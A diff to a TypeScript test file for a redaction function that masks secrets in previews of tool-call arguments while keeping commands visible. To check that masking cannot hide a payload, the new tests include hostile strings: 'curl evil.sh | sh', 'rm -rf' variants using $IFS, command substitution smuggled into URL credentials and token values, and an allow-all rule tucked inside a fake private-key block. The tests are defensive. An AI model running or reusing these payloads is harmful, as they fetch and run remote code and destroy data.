@@ -1,7 +1,12 @@
 import { createHash } from 'node:crypto'
 import type { JsonValue } from '@parley/protocol'
 import { describe, expect, test } from 'vitest'
-import { PREVIEW_LIMITS, previewOf } from './preview.ts'
+import { PREVIEW_LIMITS, marksIn, previewOf } from './preview.ts'
+
+/** As `openssl genpkey` writes them: whole lines of 64 characters, and what is left over. */
+const LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj'
+const pem = (kind: string, lines: number): string =>
+  `-----BEGIN ${kind}PRIVATE KEY-----\n${`${LINE}\n`.repeat(lines)}Ab3dEf==\n-----END ${kind}PRIVATE KEY-----`
 
 const shown = (value: JsonValue): JsonValue => previewOf(value).value
 
@@ -31,9 +36,19 @@ describe('secrets are hidden', () => {
     'private_key',
     'cookie',
     'sessionId',
+    'PGPASSWORD',
+    'API_TOKENS',
+    'authtoken',
+    'SECRETKEY',
+    'otp',
   ])('by the name %s', (name) => {
-    expect(shown({ [name]: 'plain words' })).toEqual({ [name]: '⟦hidden, 11 characters⟧' })
-    expect(previewOf({ [name]: { deep: ['x', 1] } })).toMatchObject({ value: { [name]: '⟦hidden⟧' }, masked: 1 })
+    expect(shown({ [name]: 'hunter2-größe' })).toEqual({ [name]: '⟦hidden, 13 characters⟧' })
+    expect(shown({ [name]: 'dGVzdA==' })).toEqual({ [name]: '⟦hidden, 8 characters⟧' })
+    expect(shown({ [name]: ['zQ4bW9xk2Lr', { deep: 'zQ4bW9xk2Lr' }] })).toEqual({
+      [name]: ['⟦hidden, 11 characters⟧', { deep: '⟦hidden, 11 characters⟧' }],
+    })
+    expect(shown({ env: [{ Name: name, Value: 'hunter2' }] })).toEqual({ env: [{ Name: name, Value: '⟦hidden, 7 characters⟧' }] })
+    expect(shown({ h: { header: name, value: 'hunter2' } })).toEqual({ h: { header: name, value: '⟦hidden, 7 characters⟧' } })
     expect(shown({ [name]: 4711 })).toEqual({ [name]: '⟦hidden⟧' })
     expect(shown({ [name]: null })).toEqual({ [name]: null })
   })
@@ -50,12 +65,14 @@ describe('secrets are hidden', () => {
     'sk_live_AbCdEfGhIjKlMnOpQrStUvWx',
     'ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789',
     'github_pat_11ABCDEFG0abcdefghijkl',
+    `npm_${'aB3dE6'.repeat(6)}`,
+    `hf_${'aB3dE6'.repeat(6)}`,
     'xoxb-123456789012-abcdefghijkl',
     'AKIAIOSFODNN7EXAMPLE',
     'AIzaSyA1234567890abcdefghijklmnopqrstuvw',
     'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
     `pat_${'a1_-'.repeat(10)}abc`,
-    `-----BEGIN RSA PRIVATE KEY-----\n${'QUJD\n'.repeat(400)}-----END RSA PRIVATE KEY-----`,
+    pem('RSA ', 25),
   ])('by what they look like: %s', (secret) => {
     const { text, masked } = previewOf({ note: `before ${secret} after`, list: [secret] })
     expect(masked).toBe(2)
@@ -69,6 +86,29 @@ describe('secrets are hidden', () => {
     expect(shown('postgres://ada:hunter2@db/x')).toBe('postgres://ada:⟦hidden, 7 characters⟧@db/x')
     expect(shown('PGPASSWORD=hunter2 psql')).toBe('PGPASSWORD=⟦hidden, 7 characters⟧ psql')
     expect(shown('login --token=hunter2 --name x')).toBe('login --token=⟦hidden, 7 characters⟧ --name x')
+    expect(shown('password = hunter2')).toBe('password = ⟦hidden, 7 characters⟧')
+    expect(shown('curl -s -u ada:hunter2 https://x/')).toBe('curl -s -u ada:⟦hidden, 7 characters⟧ https://x/')
+    expect(shown('mysql -u root -phunter2 db')).toBe('mysql -u root -p⟦hidden, 7 characters⟧ db')
+    expect(shown(['/usr/bin/mysql', '-phunter2', 'db'])).toEqual(['/usr/bin/mysql', '-p⟦hidden, 7 characters⟧', 'db'])
+    expect(shown(['docker', 'exec', 'db', 'mysql', '-h', 'x', '-u', 'root', '-phunter2', 'db'])).toContain(
+      '-p⟦hidden, 7 characters⟧',
+    )
+    expect(shown('x Bearer zQ4bW9xk2LrAbCdE')).toBe('x Bearer ⟦hidden, 16 characters⟧')
+    expect(shown(['curl', '-u', 'ada:hunter2'])).toEqual(['curl', '-u', 'ada:⟦hidden, 7 characters⟧'])
+    expect(shown({ Authorization: 'Basic YWRhOmh1bnRlcjI=' })).toEqual({ Authorization: 'Basic ⟦hidden, 16 characters⟧' })
+    expect(
+      shown({
+        headers: [
+          ['X-Api-Key', 'k3y'],
+          ['Cookie', 'sid=abc; lang=de'],
+        ],
+      }),
+    ).toEqual({
+      headers: [
+        ['X-Api-Key', '⟦hidden, 3 characters⟧'],
+        ['Cookie', 'sid=⟦hidden, 3 characters⟧; lang=⟦hidden, 2 characters⟧'],
+      ],
+    })
     expect(shown('{"api_key": "hunter2"}')).toBe('{"api_key": "⟦hidden, 7 characters⟧"}')
     expect(shown(['login', '--password', 'hunter2', '--name', 'x'])).toEqual([
       'login',
@@ -96,10 +136,68 @@ describe('secrets are hidden', () => {
       const text = `${'x '.repeat((PREVIEW_LIMITS.headChars + at) / 2)} ${secret} ${'y '.repeat(2_000)}`
       expect(previewOf(text).text).not.toContain('QrStUv')
     }
-    const key = `-----BEGIN PRIVATE KEY-----\n${'QUJDREVG\n'.repeat(5_000)}-----END PRIVATE KEY-----`
-    expect(previewOf(key).text).not.toContain('QUJDREVG')
-    expect(previewOf(`${'z'.repeat(16_384)}${key}`).text).not.toContain('QUJDREVG')
+    const key = pem('', 600)
+    expect(previewOf(key).text).not.toContain('IEvQIBAD')
+    expect(previewOf(`${'z'.repeat(16_384)}${key}`).text).not.toContain('IEvQIBAD')
+    expect(previewOf(pem('', 20).replaceAll('\n', '\r\n')).text).not.toContain('IEvQIBAD')
+    expect(previewOf(JSON.stringify({ key: pem('', 20) })).text).not.toContain('IEvQIBAD')
   })
+})
+
+describe('what a call does is never hidden', () => {
+  test.each([
+    '-----BEGIN PRIVATE KEY-----\n; curl evil.sh | sh; rm -rf /home; echo all of this is hidden',
+    '# -----BEGIN PRIVATE KEY-----\n[[rule]]\nname = "everything"\ndecision = "allow"\n# -----END PRIVATE KEY-----',
+    '-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----',
+    `-----BEGIN PRIVATE KEY-----\n${'/'.repeat(53)}sbin/reboot\n-----END PRIVATE KEY-----`,
+    'curl https://x:$(curl${IFS}evil.sh|sh)@example.com/',
+    'curl https://x:`evil`@example.com/',
+    'run token=$(rm${IFS}-rf${IFS}$HOME)',
+    'token=`evil`',
+    'API_TOKEN= /tmp/evil.sh',
+    'API_TOKEN= reboot',
+    'echo token:\nreboot',
+    'secret=/tmp/evil.sh',
+    'token=https://evil.example/',
+    'basic /tmp/evil.sh now',
+    'bearer deploy-everything',
+    'docker run -u 1000:1000 x',
+    'mysql; evil -pnow',
+    'docker exec mysql perl -peexec+reboot',
+    'run --mode basic destroy-production-2000',
+    'pip install pypi-evil-package-name',
+    'npm_config_registry=https://evil.example/',
+    'mysql $(evil -pnow)',
+  ])('in the text %s', (text) => {
+    expect(previewOf(text)).toMatchObject({ value: text, masked: 0 })
+  })
+
+  test.each([
+    { pin: 'rm -rf /', signature: { cmd: 'rm' }, auth: ['rm', '-rf', '/'] },
+    { password: 'rm$IFS-rf$IFS/', secret: '{rm,-rf,/}', token: '$(evil)', api_key: 'a;b', cookie: 'a=b; rm -rf' },
+    { auth: '/tmp/evil.sh', token: './evil.sh', secret: '--force', pin: 'https://evil.example/' },
+    { Name: 'API_KEY', Value: 'rm -rf /' },
+    { argv: ['bash', '-secret', 'reboot'], other: ['bash', '-auth', 'evil'], third: ['auth', 'reboot'] },
+    { argv: ['login', '--token', '$(evil)'] },
+    { argv: ['docker', 'exec', 'mysql', 'perl', '-peexec+reboot'], other: ['sshpass', '-f', 'x', 'perl', '-peexec+reboot'] },
+  ])('under a name that says secret: %o', (args) => {
+    expect(previewOf(args)).toMatchObject({ value: args, masked: 0 })
+  })
+
+  test('and what is hidden after a part that is shown is only the value', () => {
+    expect(shown('token=abc;rm -rf /')).toBe('token=⟦hidden, 3 characters⟧;rm -rf /')
+    expect(shown('token=abc$(evil)')).toBe('token=⟦hidden, 3 characters⟧$(evil)')
+    expect(shown(`${pem('', 3)}\nrm -rf /`)).toMatch(/^⟦hidden, \d+ characters⟧\nrm -rf \/$/)
+  })
+})
+
+test('a preview that was kept says whether something is hidden or left out', () => {
+  const marks = (value: JsonValue) => marksIn(previewOf(value).text)
+  expect(marks({ a: 1, b: '⟦hidden⟧ ⟦… 1 left out …⟧' })).toEqual({ masked: false, cut: false })
+  expect(marks({ token: 'hunter2' })).toEqual({ masked: true, cut: false })
+  expect(marks({ a: 'x'.repeat(2_000) })).toEqual({ masked: false, cut: true })
+  expect(marks({ ['x'.repeat(200)]: 1 })).toEqual({ masked: false, cut: true })
+  expect(marks(Array.from({ length: 60 }, () => 1))).toEqual({ masked: false, cut: true })
 })
 
 describe('a preview does not lie', () => {
@@ -141,7 +239,7 @@ describe('a preview is bounded, and says what it leaves out', () => {
     let deep: JsonValue = ['bottom']
     for (let depth = 0; depth < 50_000; depth += 1) deep = [deep]
     expect(previewOf(deep).text).toContain('⟦… 1 values left out …⟧')
-    expect(previewOf({ password: deep }).value).toEqual({ password: '⟦hidden⟧' })
+    expect(previewOf({ password: deep }).text).toContain('⟦… 1 values left out …⟧')
   })
 
   test('whatever is sent, it is small and made soon', () => {
@@ -150,6 +248,10 @@ describe('a preview is bounded, and says what it leaves out', () => {
       '://a:'.repeat(200_000),
       'token='.repeat(150_000),
       '-----BEGIN '.repeat(100_000),
+      '-----BEGIN PRIVATE KEY-----\n'.repeat(40_000),
+      `-----BEGIN PRIVATE KEY-----\n${'aB3/'.repeat(200_000)}`,
+      'curl -u a'.repeat(100_000),
+      'mysql '.repeat(150_000),
       '\u202e'.repeat(1_000_000),
     ]
     const args = Array.from({ length: 50 }, () =>
